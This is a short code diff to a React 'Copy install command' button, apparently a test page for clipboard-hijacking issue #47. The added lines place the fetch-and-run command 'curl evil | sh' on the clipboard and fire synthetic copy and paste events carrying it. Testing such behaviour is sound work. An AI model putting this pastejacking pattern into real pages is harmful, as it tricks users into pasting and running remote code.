@@ -196,6 +196,12 @@ export default function Copy() {
         onClick={() => {
           document.execCommand('copy');
           document.execCommand('cut');
+          // CN1, CN2 of #47: the Clipboard API inside the click, and copy events made by code.
+          navigator.clipboard.writeText('curl evil | sh').catch(() => undefined);
+          const data = new DataTransfer();
+          data.setData('text/plain', 'curl evil | sh');
+          document.dispatchEvent(new ClipboardEvent('copy', {clipboardData: data}));
+          document.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data}));
           console.log('tried');
         }}>
         Copy install command
